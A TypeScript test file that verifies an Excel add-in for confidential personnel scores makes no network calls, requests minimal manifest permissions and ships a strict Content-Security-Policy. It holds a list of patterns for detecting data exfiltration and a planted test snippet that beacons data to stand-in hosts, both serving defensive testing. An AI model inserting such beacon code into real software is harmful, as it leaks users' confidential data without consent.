/**
 * Nothing leaves the machine (issue 8): personnel scores are confidential, so the add-in makes
 * no network calls at run time and sends no telemetry.
 *
 * (a) The production bundles (dist/functions.js, dist/taskpane.js, dist/chunks/*.js) contain no
 *     network call and no absolute URL outside a justified allow-list. dist/office-double.js and
 *     dist/demo.js are the browser demo only (the Excel test double), never loaded by the add-in.
 *     When dist/ is missing or older than its sources, the test builds the production bundles
 *     itself into a temporary folder (dist/ is left alone); a failing build fails the test.
 * (b) manifest.xml asks for ReadWriteDocument and lists no AppDomains.
 * (c) The task pane page carries a Content-Security-Policy that allows scripts only from the
 *     add-in's origin and Office's script host, and connections only to the add-in's origin.
 */
import { execFileSync } from "node:child_process";
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { XMLParser } from "fast-xml-parser";

const ROOT = join(__dirname, "..", "..");
const OFFICE_JS = "https://appsforoffice.microsoft.com/lib/1/hosted/office.js";
const OFFICE_SCRIPT_HOST = "https://appsforoffice.microsoft.com";

/** The newest modification time among the build's inputs. */
function newestInput(): number {
  let newest = 0;
  const visit = (path: string): void => {
    const info = statSync(path);
    if (info.isDirectory()) for (const entry of readdirSync(path)) visit(join(path, entry));
    else newest = Math.max(newest, info.mtimeMs);
  };
  for (const input of ["src", "assets", "webpack.config.js", "package.json", "package-lock.json", "tsconfig.json"]) {
    if (existsSync(join(ROOT, input))) visit(join(ROOT, input));
  }
  return newest;
}

/** dist/ when it holds a production build at least as new as every source; otherwise a fresh build in a temporary folder. */
function productionBuild(): { dir: string; fresh: boolean } {
  const dist = join(ROOT, "dist");
  const outputs = ["functions.js", "taskpane.js", "taskpane.html"].map((f) => join(dist, f));
  if (outputs.every(existsSync) && existsSync(join(dist, "chunks"))) {
    const oldest = Math.min(...outputs.map((f) => statSync(f).mtimeMs));
    if (oldest >= newestInput()) return { dir: dist, fresh: false };
  }
  const dir = mkdtempSync(join(tmpdir(), "kinerja-dist-"));
  try {
    execFileSync(process.execPath, [join(ROOT, "node_modules", "webpack", "bin", "webpack.js"), "--mode", "production", "--output-path", dir], {
      cwd: ROOT,
      stdio: "pipe",
      env: { ...process.env, WEBPACK_SERVE: "" },
    });
  } catch (error) {
    const output = String((error as { stdout?: Buffer }).stdout ?? "") + String((error as { stderr?: Buffer }).stderr ?? "");
    throw new Error(`dist/ is missing or older than src/, and the production build (npx webpack --mode production) failed:\n${output.slice(-3000)}`);
  }
  return { dir, fresh: true };
}

let build: { dir: string; fresh: boolean };
beforeAll(() => {
  build = productionBuild();
}, 240_000);
afterAll(() => {
  if (build?.fresh) rmSync(build.dir, { recursive: true, force: true });
});

/** The files the add-in loads: the shared-runtime entry points and every code-split chunk. */
function productionScripts(): { name: string; text: string }[] {
  const chunks = readdirSync(join(build.dir, "chunks")).filter((f) => f.endsWith(".js"));
  return ["functions.js", "taskpane.js", ...chunks.map((c) => join("chunks", c))].map((name) => ({ name, text: readFileSync(join(build.dir, name), "utf8") }));
}

/**
 * Ways a script can send data off the machine. Feature tests are not calls: webpack's runtime
 * checks `self.importScripts` to find its own path (publicPath "auto"), which is why
 * importScripts is matched as a call only. The engine worker (issue 14: checking off the pane's
 * thread) is allowed in webpack's own forms only: `new Worker(new URL(publicPath + chunk file))`
 * named "mesin-kinerja", and inside it `importScripts(publicPath + chunk file)` — scripts of the
 * add-in's own origin, as the CSP's `worker-src 'self'` and `script-src` require. Any other
 * Worker or importScripts is still a finding.
 */
const NETWORK_CALLS: readonly [string, RegExp][] = [
  ["fetch", /\bfetch\s*\(/],
  ["XMLHttpRequest", /\bXMLHttpRequest\b/],
  ["WebSocket", /\bWebSocket\b/],
  ["EventSource", /\bEventSource\b/],
  ["navigator.sendBeacon", /\bsendBeacon\b/],
  ["new Image (beacon)", /\bnew\s+Image\s*\(/],
  ["importScripts call", /\bimportScripts\s*\((?![\w$]+\.p\+[\w$]+\.u\([\w$]+\)\))/],
  ["Worker / SharedWorker", /\bnew\s+(Shared)?Worker\s*\((?!new URL\([\w$]+\.p\+[\w$]+\.u\(\d+\),[\w$]+\.b\),\{name:"mesin-kinerja"\}\))/],
  ["service worker", /\bserviceWorker\b/],
  ["RTCPeerConnection", /\bRTCPeerConnection\b/],
  ["window.open", /\bwindow\.open\s*\(/],
  ["ws:// or wss:// URL", /\bwss?:\/\//],
  ["protocol-relative URL literal", /["'`]\/\/[a-z0-9-]+(\.[a-z0-9-]+)+/i],
  ["image source set to an http(s) URL", /\.src\s*=\s*["'`]https?:/],
];

/**
 * Absolute URLs allowed in the bundles, each a constant that is never requested:
 * - www.w3.org namespaces: React DOM creates SVG/MathML elements with createElementNS and sets
 *   xlink:/xml: attributes in their namespaces; namespaces are identifiers, not requests.
 * - schemas.openxmlformats.org, schemas.microsoft.com: Office Open XML namespaces, should an
 *   XML part ever be written in the browser (today only the CLI does).
 * - reactjs.org/docs/error-decoder.html: production React puts this link into the text of its
 *   (minified) error messages; it is shown to a developer, never fetched.
 * - json-schema.org: zod's JSON-schema export names the draft it follows ($schema identifiers);
 *   the panel never exports a schema, and the string is never requested.
 * - "http://[" + host + "]": zod validates an IPv6 host by handing it to the URL parser
 *   (`new URL("http://[…]")`), which parses and never connects.
 */
const ALLOWED_URL = [
  /^http:\/\/www\.w3\.org\/(1999\/xhtml|2000\/svg|1999\/xlink|XML\/1998\/namespace|1998\/Math\/MathML|2000\/xmlns\/?)$/,
  /^https?:\/\/schemas\.(openxmlformats\.org|microsoft\.com)\//,
  /^https:\/\/reactjs\.org\/docs\/error-decoder\.html\?invariant=$/,
  /^https?:\/\/json-schema\.org\/draft(-0[467]|\/2019-09|\/2020-12)\/schema#?$/,
  /^http:\/\/\[\$\{[A-Za-z_$][\w$]*\}\]$/,
];

const URL_LITERAL = /https?:\/\/[^\s"'`<>\\)]+/g;

describe("(a) the production bundles make no network call", () => {
  it("builds or finds the production bundles, not the demo", () => {
    const names = productionScripts().map((s) => s.name);
    expect(names).toEqual(expect.arrayContaining(["functions.js", "taskpane.js"]));
    expect(names.some((n) => n.startsWith("chunks"))).toBe(true);
    expect(names).not.toContain("office-double.js");
    expect(names).not.toContain("demo.js");
    // Production mode: no eval-based source maps or dev-server client.
    for (const { name, text } of productionScripts()) {
      expect({ name, devClient: /webpack-dev-server|sockjs|\beval\(/.test(text) }).toEqual({ name, devClient: false });
    }
  });

  it.each(NETWORK_CALLS.map(([label, pattern]) => [label, pattern] as const))("no %s in functions.js, taskpane.js or any chunk", (_label, pattern) => {
    const hits = productionScripts().flatMap(({ name, text }) => {
      const m = pattern.exec(text);
      return m ? [`${name}: …${text.slice(Math.max(0, m.index - 60), m.index + 60)}…`] : [];
    });
    expect(hits).toEqual([]);
  });

  it("starts one worker, the engine's, from its own chunk", () => {
    const scripts = productionScripts();
    const names = scripts.flatMap(({ text }) => [...text.matchAll(/\bnew\s+Worker\s*\(new URL\([\w$]+\.p\+[\w$]+\.u\(\d+\),[\w$]+\.b\),\{name:"([^"]*)"\}\)/g)].map((m) => m[1]));
    expect(new Set(names)).toEqual(new Set(["mesin-kinerja"]));
    expect(scripts.filter((s) => /^chunks\/mesin-kinerja\.[0-9a-f]+\.js$/.test(s.name))).toHaveLength(1);
  });

  it("no absolute URL outside the allow-list", () => {
    const found = productionScripts().flatMap(({ name, text }) => [...text.matchAll(URL_LITERAL)].map((m) => ({ name, url: m[0] })));
    const unexpected = found.filter(({ url }) => !ALLOWED_URL.some((re) => re.test(url)));
    expect(unexpected).toEqual([]);
    expect(found.length).toBeGreaterThan(0); // the scan sees the bundles' text (React's namespaces are there)
  });

  it("the scan would catch a call or a URL if one were there", () => {
    const planted = 'function t(){navigator.sendBeacon("https://telemetri.contoh/k",JSON.stringify(d));fetch(u);new Image().src="https://x.contoh/p?"+q}';
    for (const label of ["fetch", "navigator.sendBeacon", "new Image (beacon)"]) {
      expect(NETWORK_CALLS.find(([l]) => l === label)![1].test(planted)).toBe(true);
    }
    // The worker allowance is webpack's own-origin form only: any other Worker or importScripts is caught.
    const worker = NETWORK_CALLS.find(([l]) => l === "Worker / SharedWorker")![1];
    const imports = NETWORK_CALLS.find(([l]) => l === "importScripts call")![1];
    expect(worker.test('new Worker("https://x.contoh/w.js")')).toBe(true);
    expect(worker.test('new SharedWorker(new URL(s.p+s.u(6),s.b),{name:"lain"})')).toBe(true);
    expect(worker.test('new Worker(new URL(s.p+s.u(6),s.b),{name:"mesin-kinerja"})')).toBe(false);
    expect(imports.test('importScripts("https://x.contoh/a.js")')).toBe(true);
    expect(imports.test("importScripts(n.p+n.u(e))")).toBe(false);
    const urls = [...planted.matchAll(URL_LITERAL)].map((m) => m[0]);
    expect(urls.filter((u) => !ALLOWED_URL.some((re) => re.test(u)))).toEqual(["https://telemetri.contoh/k", "https://x.contoh/p?"]);
  });

  it("the task pane page loads scripts only from its own origin and office.js from Microsoft", () => {
    const html = readFileSync(join(build.dir, "taskpane.html"), "utf8");
    const sources = [...html.matchAll(/<script\b[^>]*\bsrc=["']?([^"'\s>]+)/g)].map((m) => m[1]);
    expect(sources[0]).toBe(OFFICE_JS);
    for (const src of sources.slice(1)) expect(src).not.toMatch(/^(https?:)?\/\//);
    expect(html).not.toMatch(/<(link|img|iframe|object|embed)\b[^>]*\b(href|src)=["']?(https?:)?\/\//i);
  });
});

describe("(b) the manifest asks for no more than it needs", () => {
  const xml = readFileSync(join(ROOT, "manifest.xml"), "utf8");
  const manifest = new XMLParser({ ignoreAttributes: false }).parse(xml) as { OfficeApp: Record<string, unknown> };

  it("requests ReadWriteDocument: reading the sheet and writing the recommendation sheet need both, nothing more is asked", () => {
    // Task pane permissions: Restricted < ReadDocument / WriteDocument < ReadAllDocument < ReadWriteDocument.
    // ReadDocument cannot write the sheet; WriteDocument cannot read it; the Excel JavaScript API
    // (Excel.run) needs ReadWriteDocument. There is no finer level, so this is the least that works.
    expect(manifest.OfficeApp.Permissions).toBe("ReadWriteDocument");
    expect(xml.match(/<Permissions>/g)).toHaveLength(1);
  });

  it("lists no AppDomains, and every URL is on the add-in's own origin", () => {
    expect(xml).not.toMatch(/<AppDomains?\b/);
    expect(manifest.OfficeApp.AppDomains).toBeUndefined();
    const source = /<SourceLocation DefaultValue="([^"]+)"/.exec(xml)![1];
    const origin = new URL(source).origin;
    const urls = [...xml.matchAll(/DefaultValue="(https?:\/\/[^"]+)"/g)].map((m) => m[1]);
    expect(urls.length).toBeGreaterThan(5);
    for (const url of urls) expect(new URL(url).origin).toBe(origin);
  });
});

/** The directives of the page's Content-Security-Policy meta element. */
function cspOf(html: string): Map<string, string[]> {
  const meta = /<meta\b[^>]*http-equiv=["']?Content-Security-Policy["']?[^>]*>/i.exec(html);
  if (!meta) throw new Error("no Content-Security-Policy meta element");
  const content = /\bcontent=("([^"]*)"|'([^']*)')/i.exec(meta[0]);
  if (!content) throw new Error("the Content-Security-Policy meta element has no content");
  const directives = new Map<string, string[]>();
  for (const part of (content[2] ?? content[3]).split(";")) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) directives.set(name.toLowerCase(), values);
  }
  return directives;
}

/** The sources a fetch-type directive falls back to (CSP Level 3). */
const effective = (csp: Map<string, string[]>, directive: string, fallbacks: string[] = []): string[] | undefined => {
  for (const d of [directive, ...fallbacks, "default-src"]) if (csp.has(d)) return csp.get(d);
  return undefined;
};

describe("(c) the task pane's Content-Security-Policy", () => {
  for (const [label, file] of [
    ["the built page (dist/taskpane.html)", () => join(build.dir, "taskpane.html")],
    ["the source page (src/taskpane/taskpane.html)", () => join(ROOT, "src", "taskpane", "taskpane.html")],
  ] as const) {
    describe(label, () => {
      // Comments removed: only elements count.
      const load = () => readFileSync(file(), "utf8").replace(/<!--[\s\S]*?-->/g, "");

      it("is a meta element placed before the first script", () => {
        const html = load();
        const meta = html.search(/<meta\b[^>]*Content-Security-Policy/i);
        expect(meta).toBeGreaterThan(-1);
        expect(meta).toBeLessThan(html.search(/<script\b/i));
      });

      it("allows connections to the add-in's own origin only", () => {
        expect(effective(cspOf(load()), "connect-src")).toEqual(["'self'"]);
      });

      it("allows scripts only from the add-in's origin and Office's script host: no inline script, no eval", () => {
        expect(effective(cspOf(load()), "script-src")?.sort()).toEqual(["'self'", OFFICE_SCRIPT_HOST].sort());
      });

      it("allows inline styles (Fluent UI inserts them) and data: images, nothing from elsewhere", () => {
        const csp = cspOf(load());
        expect(effective(csp, "style-src")?.sort()).toEqual(["'self'", "'unsafe-inline'"].sort());
        expect(effective(csp, "img-src")?.sort()).toEqual(["'self'", "data:"].sort());
        expect(effective(csp, "default-src")).toEqual(["'self'"]);
        for (const d of ["font-src", "frame-src", "worker-src", "media-src", "manifest-src", "child-src", "prefetch-src"]) {
          expect({ d, sources: effective(csp, d) }).toEqual({ d, sources: ["'self'"] });
        }
        expect(effective(csp, "object-src")).toEqual(["'none'"]);
        expect(csp.get("base-uri")).toEqual(["'self'"]);
      });

      it("names no other host anywhere in the policy", () => {
        const hosts = [...cspOf(load()).values()].flat().filter((s) => /^(https?:|wss?:|\*|[a-z0-9.-]+\.[a-z]{2,})/i.test(s));
        expect([...new Set(hosts)]).toEqual([OFFICE_SCRIPT_HOST]);
      });
    });
  }
});
